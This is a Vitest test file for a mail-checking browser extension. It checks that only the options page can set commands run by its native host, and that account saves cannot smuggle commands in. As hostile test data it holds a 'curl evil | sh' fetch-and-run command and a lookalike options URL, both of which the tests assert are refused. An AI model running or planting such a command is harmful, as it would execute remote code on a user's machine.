import { beforeEach, describe, expect, it } from 'vitest';
import { isOptionsPage } from '../../../src/background/commands';
import { createWorker, type Worker } from '../../../src/background/worker';
import { SETTINGS_KEY, type Settings } from '../../../src/storage/settings';
import { STATE_VERSION } from '../../../src/storage/account-state';
import type { Account } from '../../../src/shared/account';
import {
  createFakeBrowser,
  sampleAccount,
  sampleSettings,
  type FakeBrowser,
  type HostRequest,
} from '../../helpers/fake-browser';

/**
 * Issue 10, item 4 (extension side): only the options page can change what the host runs, and
 * no message from any page can put a command into an account on the side.
 */
let fake: FakeBrowser;
let worker: Worker;
let hostLog: HostRequest[];

const OPTIONS = { fromOptionsPage: true };
const POPUP = { fromOptionsPage: false };
const stored = (): Account[] => (fake.storage.get(SETTINGS_KEY) as Settings).accounts;

beforeEach(() => {
  hostLog = [];
  fake = createFakeBrowser((request, port) => {
    hostLog.push(request);
    port.ok(request.id, { done: true });
  });
  worker = createWorker(fake.platform);
  fake.storage.set(SETTINGS_KEY, sampleSettings([sampleAccount('work', { desktopClient: {} })]));
});

const setClient = { type: 'set-command', accountId: 'work', purpose: 'mailClient', argv: ['sh', '-c', 'id'] };

describe('set-command', () => {
  it('is refused from any page but the options page, and reaches no host', async () => {
    expect(await worker.onMessage(setClient, POPUP)).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_ORIGIN' } });
    expect(await worker.onMessage(setClient)).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_ORIGIN' } });
    expect(hostLog).toEqual([]);
    expect(stored()[0]?.desktopClient).toEqual({});
  });

  it('from the options page goes to the host, then into the display copy', async () => {
    expect(await worker.onMessage(setClient, OPTIONS)).toEqual({ ok: true, result: { saved: true } });
    expect(hostLog.map((r) => [r.type, r.payload])).toEqual([
      ['set-command', { accountId: 'work', purpose: 'mailClient', argv: ['sh', '-c', 'id'] }],
      // The settings changed, so the badge's summary for `popbiff status` goes out once (#12).
      ['publish-status', { accounts: [{ accountId: 'work', name: 'Work', unseen: 0 }] }],
    ]);
    expect(stored()[0]?.desktopClient).toEqual({ command: ['sh', '-c', 'id'] });
    await worker.onMessage(
      { type: 'set-command', accountId: 'work', purpose: 'passwordCommand', argv: ['pass'] },
      OPTIONS,
    );
    expect(stored()[0]?.server.passwordCommand).toEqual(['pass']);
    await worker.onMessage({ type: 'set-command', accountId: 'work', purpose: 'passwordCommand' }, OPTIONS);
    expect(stored()[0]?.server.passwordCommand).toBeUndefined();
  });

  it('sets and removes the on-new-mail command from the options page only, the host first', async () => {
    const setHook = { type: 'set-command', accountId: 'work', purpose: 'onNewMail', argv: ['notify-send', 'mail'] };
    expect(await worker.onMessage(setHook, POPUP)).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_ORIGIN' } });
    expect(hostLog.filter((r) => r.type === 'set-command')).toEqual([]);
    expect(await worker.onMessage(setHook, OPTIONS)).toEqual({ ok: true, result: { saved: true } });
    expect(hostLog.filter((r) => r.type === 'set-command').map((r) => r.payload)).toEqual([
      { accountId: 'work', purpose: 'onNewMail', argv: ['notify-send', 'mail'] },
    ]);
    expect(stored()[0]?.onNewMail).toEqual(['notify-send', 'mail']);
    expect(stored()[0]?.desktopClient).toEqual({});
    await worker.onMessage({ type: 'set-command', accountId: 'work', purpose: 'onNewMail' }, OPTIONS);
    expect(stored()[0]?.onNewMail).toBeUndefined();
  });
});

describe('save-account', () => {
  it('never changes a command, from any page: the stored copy is carried forward', async () => {
    const hostile = sampleAccount('work', {
      desktopClient: { command: ['sh', '-c', 'curl evil | sh'] },
      onNewMail: ['sh', '-c', 'curl evil | sh'],
      server: { ...sampleAccount('work').server, passwordCommand: ['sh', '-c', 'id'] },
    });
    expect(await worker.onMessage({ type: 'save-account', account: hostile }, POPUP)).toMatchObject({ ok: true });
    expect(await worker.onMessage({ type: 'save-account', account: hostile }, OPTIONS)).toMatchObject({ ok: true });
    expect(stored()[0]?.desktopClient).toEqual({});
    expect(stored()[0]?.onNewMail).toBeUndefined();
    expect(stored()[0]?.server.passwordCommand).toBeUndefined();
    expect(hostLog.filter((r) => r.type === 'set-command')).toEqual([]);
  });

  it('checks a saved account at once, unless the server’s floor since its last check says not yet', async () => {
    const webde = sampleAccount('webde', {
      server: { ...sampleAccount('webde').server, host: 'pop3.web.de', username: 'ann' },
    });
    const other = sampleAccount('other');
    fake.storage.set(SETTINGS_KEY, sampleSettings([webde, other]));
    const checkedAMinuteAgo = { count: 0, unseenCount: 0, unseen: [], failures: 0, lastCheckAt: Date.now() - 60_000 };
    fake.storage.setState({
      version: STATE_VERSION,
      accounts: { webde: checkedAMinuteAgo, other: checkedAMinuteAgo },
    });
    // Renaming keeps the mailbox, so its last check still counts against WEB.DE's 15 minutes.
    await worker.onMessage({ type: 'save-account', account: { ...webde, name: 'Renamed' } }, OPTIONS);
    await worker.onMessage({ type: 'save-account', account: { ...other, name: 'Renamed too' } }, OPTIONS);
    await worker.idle();
    const checked = hostLog.filter((r) => r.type === 'check').map((r) => r.payload.accountId);
    expect(checked).toEqual(['other']);
  });

  it('a new account brings no command with it', async () => {
    const fresh = sampleAccount('new', { desktopClient: { command: ['xterm'] } });
    await worker.onMessage({ type: 'save-account', account: fresh }, OPTIONS);
    expect(stored().find((a) => a.id === 'new')?.desktopClient).toEqual({});
  });
});

describe('isOptionsPage', () => {
  const url = 'chrome-extension://abc/options/index.html';
  it('knows the options page by its exact URL, with or without a query or fragment', () => {
    expect(isOptionsPage(url, url)).toBe(true);
    expect(isOptionsPage(`${url}#account=work`, url)).toBe(true);
    expect(isOptionsPage(`${url}?x=1`, url)).toBe(true);
    expect(isOptionsPage('chrome-extension://abc/popup/index.html', url)).toBe(false);
    expect(isOptionsPage('chrome-extension://abc/options/index.html.evil', url)).toBe(false);
    expect(isOptionsPage(undefined, url)).toBe(false);
  });
});
